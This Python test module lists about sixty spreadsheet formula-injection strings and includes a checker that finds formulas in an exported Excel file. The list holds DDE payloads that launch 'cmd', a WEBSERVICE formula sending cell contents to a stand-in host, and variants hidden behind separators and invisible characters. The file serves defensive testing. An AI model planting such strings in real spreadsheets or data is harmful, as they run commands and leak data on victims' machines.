"""Sixty texts a spreadsheet might calculate (T31), and what tells that one did."""

import re
import zipfile
from io import BytesIO

SIGNS = "=+-@＝＋－＠"
FORMULA = re.compile(r"<f[ >/]")
# fmt: off
PAYLOADS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f'{sign}HYPERLINK("http://a.test","x")' for sign in SIGNS),
    *(f"\t{sign}1" for sign in SIGNS),
    *(f"\r{sign}1" for sign in "=＝@＠"), *(f"\n{sign}1" for sign in "=＝+＋"), "\r\n=1", "\r\n－1",
    "=cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    "={1,2;3,4}", "=IMPORTXML(\"http://a.test\",\"//a\")", "=WEBSERVICE(\"http://a.test/\"&A1)", "{=1+1}=",
    "路灯,=1+1", "路灯;＝1+1", "路灯|@SUM(A1)", "路灯\t=1+1", '路灯","=1+1', "路灯\n=1+1", "路灯\n＝1+1",
    " =1+1", "\u3000＝1+1", "\xa0=1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\x1f＝1+1",
    "\u202e=1", "'=1+1", '"=1+1"',
    ",=1+1",
]
# fmt: on


def calculated(content: bytes) -> list[str]:
    """The sheets of an Excel file that have a formula in them, and cells that are neither text nor number."""
    found = []
    with zipfile.ZipFile(BytesIO(content)) as package:
        for name in package.namelist():
            text = package.read(name).decode()
            if FORMULA.search(text) or "calcChain" in name or re.search(r'<c [^>]*t="(?!s"|n")', text):
                found.append(name)
    return found
